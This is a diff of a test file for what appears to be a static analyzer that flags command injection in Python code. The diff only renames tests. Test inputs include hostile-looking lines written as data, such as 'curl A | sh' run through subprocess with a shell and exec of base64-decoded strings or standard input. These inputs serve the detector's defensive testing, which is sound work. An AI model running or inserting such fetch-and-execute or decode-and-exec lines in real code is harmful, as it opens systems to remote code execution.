@@ -144,7 +144,7 @@ test.each(EXACT)("%s", (text, expected) => {
   expect(injected(text, analyzePython)).toEqual(expected);
 });
 
-test("the quotes of a list's word stand for those of the command line", () => {
+test("the quotes of a list item replace those of a command line", () => {
   const text = "subprocess.run(['bash', '-c', '$(curl A)'])";
   const { injections } = withTools((tools) => analyzePython(Source.whole(text), tools));
   const source = injections[0]?.source;
@@ -154,7 +154,7 @@ test("the quotes of a list's word stand for those of the command line", () => {
   );
 });
 
-test("an inner call of an executed string keeps its place through escapes", () => {
+test("a call inside an executed string keeps its place through escapes", () => {
   const text = 'exec("x = \\"a\\"\\nexec(base64.b64decode(x))")';
   const spans = withTools((tools) => {
     const outer = analyzePython(Source.whole(text), tools);
@@ -163,7 +163,7 @@ test("an inner call of an executed string keeps its place through escapes", () =
   expect(spans).toEqual(["exec(base64"]);
 });
 
-test("a shell option that is not known is said", () => {
+test("an unknown value of the shell option is noted", () => {
   const { notes, injections } = withTools((tools) =>
     analyzePython(Source.whole("subprocess.run('curl A | sh', shell=flag)"), tools),
   );
@@ -203,7 +203,7 @@ test.each([
   ).toBeUndefined();
 });
 
-test("standard input that is decoded first is rule 18", () => {
+test("decoding and executing standard input is rule 18", () => {
   const analysis = withTools(
     (tools) => analyzePython(Source.whole("exec(base64.b64decode(sys.stdin.read()))"), tools),
     { stdinIsRemote: true },
